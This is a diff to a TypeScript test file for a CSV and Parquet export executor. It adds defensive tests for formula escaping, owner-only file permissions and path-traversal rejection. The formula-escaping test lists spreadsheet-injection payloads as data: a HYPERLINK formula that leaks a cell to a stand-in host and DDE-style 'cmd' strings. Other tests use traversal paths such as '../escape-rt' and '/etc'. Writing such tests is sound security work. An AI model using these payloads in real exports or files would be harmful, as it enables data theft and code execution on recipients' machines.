@@ -1,4 +1,4 @@
-import { mkdtemp, readFile, readdir, rm } from 'node:fs/promises'
+import { mkdtemp, readFile, readdir, rm, stat } from 'node:fs/promises'
 import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { parse } from 'csv-parse/sync'
@@ -6,7 +6,7 @@ import { afterEach, beforeEach, describe, expect, it } from 'vitest'
 import type { FileEffect } from '../../destinations/contract.js'
 import { getDestination, runTransform } from '../../destinations/registry.js'
 import { SAMPLE_NOW, sampleInputs } from '../../destinations/testing/samples.js'
-import { executeFile, readParquetRows } from './file-executor.js'
+import { csvCell, executeFile, readParquetRows, resolveExportDir } from './file-executor.js'
 
 let dir: string
 beforeEach(async () => {
@@ -21,7 +21,7 @@ function effects(format: string): FileEffect[] {
     getDestination('builtin.file-export'),
     [sampleInputs.profile, sampleInputs.audienceAdd, sampleInputs.audienceRemove],
     {
-      settings: { directory: dir, format, traits: ['email', 'first_name', 'plan'] },
+      settings: { directory: 'exports', format, traits: ['email', 'first_name', 'plan'] },
       destinationId: 'dest_files',
       now: SAMPLE_NOW,
     },
@@ -84,5 +84,49 @@ describe('executeFile', () => {
     const [profiles] = effects('csv')
     const r = await executeFile({ ...profiles!, path: '../escape.csv' }, dir)
     expect(r).toMatchObject({ ok: false, error: { code: 'UNSAFE_PATH', retryable: false } })
+  })
+
+  it('neutralises spreadsheet formulas in CSV cells', async () => {
+    const [profiles] = effects('csv')
+    const evil = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      '-2+3',
+      '\t=1',
+      '\r=1',
+    ]
+    const rows = evil.map((v, i) => ({ profile_id: `p${i}`, email: v }))
+    await executeFile({ ...profiles!, rows }, dir)
+    const back = parse(await readFile(join(dir, profiles!.path), 'utf8'), {
+      columns: true,
+    }) as Record<string, string>[]
+    expect(back.map((r) => r.email)).toEqual(evil.map((v) => `'${v}`))
+    expect(csvCell('plain')).toBe('plain')
+    expect(csvCell('a=b')).toBe('a=b')
+  })
+
+  it('writes exports owner-only (files 0600, directories 0700)', async () => {
+    const [profiles] = effects('csv')
+    await executeFile(profiles!, dir, 'crm/daily')
+    const file = await stat(join(dir, 'crm/daily', profiles!.path))
+    const folder = await stat(join(dir, 'crm'))
+    expect((file.mode & 0o777).toString(8)).toBe('600')
+    expect((folder.mode & 0o777).toString(8)).toBe('700')
+  })
+
+  it('keeps the directory setting inside the export root', async () => {
+    const [profiles] = effects('csv')
+    for (const directory of ['../escape-rt', '/tmp/abs-export', 'a/../../b', '..']) {
+      const r = await executeFile(profiles!, join(dir, 'root'), directory)
+      expect(r, directory).toMatchObject({
+        ok: false,
+        error: { code: 'UNSAFE_PATH', retryable: false },
+      })
+    }
+    expect(await readdir(dir)).toEqual([])
+    expect(resolveExportDir('/srv/exports', 'crm')).toBe('/srv/exports/crm')
+    expect(resolveExportDir('/srv/exports', '.')).toBe('/srv/exports')
+    expect(resolveExportDir('/srv/exports', '/etc')).toBeNull()
   })
 })
